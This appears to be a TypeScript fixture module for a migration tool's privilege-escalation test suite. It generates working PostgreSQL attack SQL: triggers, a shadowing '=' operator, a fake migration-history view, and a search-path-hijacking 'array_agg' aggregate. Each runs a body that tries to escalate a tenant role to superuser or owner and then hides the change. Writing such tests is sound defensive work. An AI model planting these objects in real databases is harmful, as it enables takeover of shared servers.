/**
 * What a hostile tenant plants, for the escalation suite: a function that,
 * wherever it runs, records who ran it and tries every way to make the
 * attacker superuser or a member of a role it should not have. Each attempt
 * is in a block of its own, so a refused one does not stop the next or fail
 * the statement that fired it, and the role it found is restored at the end
 * (as a careful attacker would, to hide from a check of current_user).
 */
import { quoteIdent, quoteLiteral } from '../../model/sql-quote';

/** The table where every run of a planted function is recorded, readable and writable by anyone. */
export function recorderSql(schema: string): string {
  return [
    `CREATE TABLE ${quoteIdent(schema)}.fired (session_login text, current_role_name text, was_superuser boolean);`,
    `GRANT USAGE ON SCHEMA ${quoteIdent(schema)} TO PUBLIC;`,
    `GRANT INSERT, SELECT ON ${quoteIdent(schema)}.fired TO PUBLIC;`,
  ].join('\n');
}

/** The body that records the run and tries to escalate `attacker` (plpgsql, inside BEGIN … END). */
export function escalationBody(schema: string, attacker: string, owner: string, serverAdmin: string): string {
  const a = quoteIdent(attacker);
  const migrator = quoteIdent(owner.replace(/__owner$/, '__migrator'));
  const attempts = [
    `RESET ROLE; ALTER ROLE ${a} SUPERUSER;`,
    `SET ROLE ${quoteIdent(serverAdmin)}; ALTER ROLE ${a} SUPERUSER;`,
    `RESET ROLE; GRANT ${quoteIdent(serverAdmin)} TO ${a};`,
    `RESET ROLE; GRANT ${quoteIdent(owner)} TO ${a};`,
    `GRANT ${quoteIdent(owner)} TO ${a};`,
    `RESET ROLE; GRANT ${migrator} TO ${a};`,
    `GRANT ${migrator} TO ${a};`,
    `RESET ROLE; ALTER ROLE ${a} CREATEROLE;`,
    `EXECUTE pg_catalog.format('ALTER DATABASE %I OWNER TO %I', pg_catalog.current_database(), ${quoteLiteral(attacker)});`,
    `RESET SESSION AUTHORIZATION; ALTER ROLE ${a} SUPERUSER;`,
  ];
  return [
    `saved := current_user;`,
    `INSERT INTO ${quoteIdent(schema)}.fired SELECT session_user, current_user, (SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname = session_user);`,
    ...attempts.map((attempt) => `BEGIN ${attempt} EXCEPTION WHEN OTHERS THEN NULL; END;`),
    `BEGIN EXECUTE pg_catalog.format('SET ROLE %I', saved); EXCEPTION WHEN OTHERS THEN NULL; END;`,
  ].join('\n  ');
}

/** A trigger function that escalates, and a trigger on `table` firing it. */
export function plantedTriggerSql(options: {
  schema: string;
  attacker: string;
  owner: string;
  serverAdmin: string;
  table: string;
  timing: 'BEFORE' | 'AFTER';
  event: 'INSERT' | 'UPDATE' | 'DELETE';
  level: 'ROW' | 'STATEMENT';
}): string {
  const { schema, timing, event, level, table } = options;
  return [
    `CREATE SCHEMA ${quoteIdent(schema)};`,
    recorderSql(schema),
    `CREATE FUNCTION ${quoteIdent(schema)}.escalate() RETURNS trigger LANGUAGE plpgsql AS $fn$
DECLARE saved text;
BEGIN
  ${escalationBody(schema, options.attacker, options.owner, options.serverAdmin)}
  RETURN CASE WHEN TG_OP = 'DELETE' THEN OLD ELSE NEW END;
END
$fn$;`,
    `GRANT EXECUTE ON FUNCTION ${quoteIdent(schema)}.escalate() TO PUBLIC;`,
    `CREATE TRIGGER planted ${timing} ${event} ON ${table} FOR EACH ${level} EXECUTE FUNCTION ${quoteIdent(schema)}.escalate();`,
  ].join('\n');
}

/**
 * An `=(oid, integer)` operator in `schema` that escalates when it runs: it
 * beats the catalog's `oid = oid` for a comparison such as `grantee = 0`
 * wherever the schema is on the search path.
 */
export function plantedOperatorSql(schema: string, attacker: string, owner: string, serverAdmin: string): string {
  const s = quoteIdent(schema);
  return [
    `CREATE SCHEMA IF NOT EXISTS ${s};`,
    recorderSql(schema),
    `CREATE FUNCTION ${s}.oid_eq_int(left_oid oid, right_int integer) RETURNS boolean LANGUAGE plpgsql AS $fn$
DECLARE saved text;
BEGIN
  ${escalationBody(schema, attacker, owner, serverAdmin)}
  RETURN left_oid::bigint = right_int::bigint;
END
$fn$;`,
    `GRANT EXECUTE ON FUNCTION ${s}.oid_eq_int(oid, integer) TO PUBLIC;`,
    `CREATE OPERATOR ${s}.= (LEFTARG = oid, RIGHTARG = integer, FUNCTION = ${s}.oid_eq_int);`,
  ].join('\n');
}

/** A view in place of the migration history that escalates whenever it is read. */
export function plantedHistoryViewSql(attacker: string, owner: string, serverAdmin: string): string {
  return [
    `CREATE SCHEMA usual_store_meta;`,
    recorderSql('usual_store_meta'),
    `CREATE FUNCTION usual_store_meta.escalate() RETURNS bigint LANGUAGE plpgsql AS $fn$
DECLARE saved text;
BEGIN
  ${escalationBody('usual_store_meta', attacker, owner, serverAdmin)}
  RETURN 0;
END
$fn$;`,
    `GRANT EXECUTE ON FUNCTION usual_store_meta.escalate() TO PUBLIC;`,
    `CREATE VIEW usual_store_meta.schema_migrations AS SELECT usual_store_meta.escalate() AS version, ''::text AS name, ''::text AS md5, now() AS run_at;`,
    `GRANT ALL ON usual_store_meta.schema_migrations TO PUBLIC;`,
  ].join('\n');
}

/**
 * cyrilgdn/postgresql's `postgresql_grant` read for object_type table
 * (resource_postgresql_grant.go, readRolePrivileges), verbatim: it runs
 * after every create and on every plan. `array_agg` and `array_remove` are
 * not schema-qualified, and the provider sets no search path.
 */
export const PROVIDER_GRANT_READ = `
SELECT pg_class.relname, array_remove(array_agg(privilege_type), NULL)
FROM pg_class
JOIN pg_namespace ON pg_namespace.oid = pg_class.relnamespace
LEFT JOIN (
    SELECT acls.* FROM (
        SELECT relname, relnamespace, relkind, (aclexplode(relacl)).* FROM pg_class c
    ) as acls
    WHERE grantee=$1
) privs
USING (relname, relnamespace, relkind)
WHERE nspname = $2 AND relkind = $3
GROUP BY pg_class.relname
`;

/**
 * An `array_agg(text)` aggregate in `schema` whose transition function
 * escalates: an exact match for `array_agg(text)`, so it beats the
 * catalog's polymorphic `array_agg(anynonarray)` wherever `schema` is on the
 * search path (CVE-2018-1058's pattern).
 */
export function plantedAggregateSql(schema: string, attacker: string, owner: string, serverAdmin: string, withSchema = true): string {
  const s = `"${schema}"`;
  return [
    ...(withSchema ? [`CREATE SCHEMA IF NOT EXISTS ${s};`, recorderSql(schema)] : []),
    `CREATE FUNCTION ${s}.escalating_step(state text[], value text) RETURNS text[] LANGUAGE plpgsql AS $fn$
DECLARE saved text;
BEGIN
  ${escalationBody(schema, attacker, owner, serverAdmin)}
  RETURN pg_catalog.array_append(state, value);
END
$fn$;`,
    `GRANT EXECUTE ON FUNCTION ${s}.escalating_step(text[], text) TO PUBLIC;`,
    `CREATE AGGREGATE ${s}.array_agg(text) (SFUNC = ${s}.escalating_step, STYPE = text[]);`,
  ].join('\n');
}

/** Literal for SQL built in tests. */
export const literal = quoteLiteral;
